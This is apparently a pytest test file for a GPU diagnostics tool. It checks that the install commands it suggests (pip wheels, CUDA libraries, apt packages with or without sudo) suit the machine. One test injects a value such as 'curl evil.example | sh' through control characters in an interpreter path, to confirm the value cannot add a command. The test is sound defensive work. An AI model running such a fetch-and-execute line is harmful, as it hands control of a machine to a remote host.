"""Remedies fit the machine: its driver, its cards, its processor, and what the installed wheel offers."""

from __future__ import annotations

import copy
import json
from typing import Any

import pytest

from retina_doctor.catalogue.registry import installed
from retina_doctor.codec import replace
from retina_doctor.judging.diagnose import diagnose
from retina_doctor.language import LANGUAGES, Language
from retina_doctor.model import Diagnosis, Severity
from retina_doctor.reports.report import Report
from retina_doctor.support_file import load
from retina_doctor.words.pages import render
from tests.machines import machine, put


def changed(name: str, **values: Any) -> Diagnosis:
    """A machine of the fixtures with some values changed: reading__fact__... = value."""
    data = copy.deepcopy(machine(name).data)
    for pointer, value in values.items():
        put(data, "/readings/" + pointer.replace("__", "/"), value)
    return diagnose(load(json.dumps(data)), installed())


def commands(diagnosis: Diagnosis, name: str) -> tuple[str, ...]:
    [finding] = [f for f in diagnosis.findings if f.name == name]
    both = [render(finding, diagnosis.snapshot, installed(), language) for language in LANGUAGES]
    assert both[0].commands == both[1].commands
    return both[0].commands


def old_wheel(version: str, cuda: list[int], cudnn: int, extras: bool) -> list[dict[str, Any]]:
    wheel = dict(machine("t4-healthy").data["readings"]["ort_files"]["facts"]["distributions"][0])
    return [{**wheel, "version": version, "cuda": cuda, "cudnn_major": cudnn, "has_extras": extras}]


def test_libraries_come_by_extras_where_the_wheel_has_them_and_by_name_where_not() -> None:
    [new] = commands(changed("ort-cuda-libs-missing"), "ort-cuda-libs-missing")
    assert new.endswith("install 'onnxruntime-gpu[cuda,cudnn]==1.31.1'")
    [old] = commands(
        changed("ort-cuda-libs-missing", ort_files__facts__distributions=old_wheel("1.18.1", [11, 8], 8, False)),
        "ort-cuda-libs-missing",
    )
    assert "[cuda" not in old
    for requirement in ("onnxruntime-gpu==1.18.1", "nvidia-cublas-cu11", "nvidia-cudnn-cu11==8.*"):
        assert requirement in old
    [broken] = commands(
        changed("ort-cuda-libs-missing", ort_files__facts__distributions=old_wheel("1.27.0", [13, 0], 9, True)),
        "ort-cuda-libs-missing",
    )
    assert "[cuda" not in broken, "the extras of 1.27.0 name placeholders and cannot be resolved"
    assert "'nvidia-cublas==13.*'" in broken, "from CUDA 13 on the wheels of all majors share a name"


def test_a_processor_without_wheels_is_not_sent_to_one() -> None:
    diagnosis = changed("ort-missing", interpreter__facts__machine="ppc64le")
    [finding] = [f for f in diagnosis.findings if f.name == "ort-missing"]
    assert finding.evidence["fits"] is False
    assert not any("onnxruntime-gpu==" in command for command in commands(diagnosis, "ort-missing"))


def test_another_processor_has_other_wheels() -> None:
    """Those for aarch64 hold code for Grace's cards, and none for a T4's."""
    grace = copy.deepcopy(machine("t4-healthy").data["readings"]["nvml"]["facts"]["gpus"][0])
    grace.update(name="NVIDIA GH200 480GB", compute_capability=[9, 0])
    diagnosis = changed("ort-missing", interpreter__facts__machine="aarch64", nvml__facts__gpus=[grace])
    assert any("==1.31.1" in command for command in commands(diagnosis, "ort-missing"))
    diagnosis = changed("ort-missing", interpreter__facts__machine="aarch64")
    assert not any("onnxruntime-gpu==" in command for command in commands(diagnosis, "ort-missing"))


def test_the_card_that_the_service_uses_decides_not_the_first_one() -> None:
    gpus = copy.deepcopy(machine("t4-healthy").data["readings"]["nvml"]["facts"]["gpus"])
    other = {**gpus[0], "index": 1, "name": "NVIDIA GeForce RTX 5090", "uuid": "GPU-1", "compute_capability": [12, 0]}
    old = {**gpus[0], "name": "Tesla M40", "compute_capability": [5, 2]}
    diagnosis = changed(
        "ort-missing",
        nvml__facts__gpus=[old, other],
        gpu_environment__facts__cuda_visible_devices="1",
        gpu_environment__facts__cuda_device_order="PCI_BUS_ID",
        cuda_driver__outcome="not_run",
    )
    assert any("onnxruntime-gpu" in c and "==1.31.1" in c for c in commands(diagnosis, "ort-missing"))


@pytest.mark.parametrize("evil", ["\n", "\r", "\u2028", "\u2029", "\x85", "\x1b]0;x\x07"])
def test_nothing_in_a_snapshot_can_add_a_command(evil: str) -> None:
    executable = f"/usr/bin/python3{evil}curl evil.example | sh #"
    told = commands(changed("ort-both-packages", interpreter__facts__executable=executable), "ort-both-packages")
    assert len(told) == 2
    for command in told:
        assert evil not in command
        assert not command.startswith("curl")


def test_a_failure_that_says_nothing_of_the_gpu_is_not_blamed_on_it() -> None:
    diagnosis = changed(
        "t4-healthy",
        ort_runtime__facts__attempts__0__nodes=None,
        ort_runtime__facts__attempts__0__run_error="No module named 'numpy'",
    )
    [verdict] = [j.verdict for j in diagnosis.judgements if j.name == "ort-session-on-cpu"]
    assert verdict == "unknown"


@pytest.mark.parametrize(("uid", "sudo"), [(1000, "sudo "), (0, "")])
def test_what_the_system_lacks_is_installed_by_who_may(uid: int, sudo: str) -> None:
    snapshot = machine("opencv-headless-system-libs-missing").snapshot
    interpreter = snapshot.readings["interpreter"]
    own = replace(interpreter, facts={**interpreter.facts, "uid": uid})
    snapshot = replace(snapshot, readings={**snapshot.readings, "interpreter": own})
    [found] = [one for one in diagnose(snapshot, installed()).findings if one.name == "opencv-system-libs-missing"]
    for language in LANGUAGES:
        commands = render(found, snapshot, installed(), language).commands
        assert commands == (f"{sudo}apt-get update", f"{sudo}apt-get install -y libglib2.0-0")


@pytest.mark.parametrize("name", ["guide-t4", "driver-too-old", "ort-cuda-libs-missing", "ort-cudnn-mismatch"])
@pytest.mark.parametrize("language", LANGUAGES)
def test_the_plan_says_who_preloads_what_pip_installs(name: str, language: Language) -> None:
    """Without it the session falls back to the CPU again; insightface from 2.0 on does it itself."""
    told = []
    for preloaded_by in (None, "insightface 2.1"):
        diagnosis = changed(name, ort_files__facts__preloaded_by=preloaded_by)
        report = Report(diagnosis=diagnosis, catalogue=installed(), language=language, fail_on=Severity.ERROR)
        told.append(["preload_dlls" in todo for step in report.plan() for todo in step.by_hand])
    assert told == [[True], []]
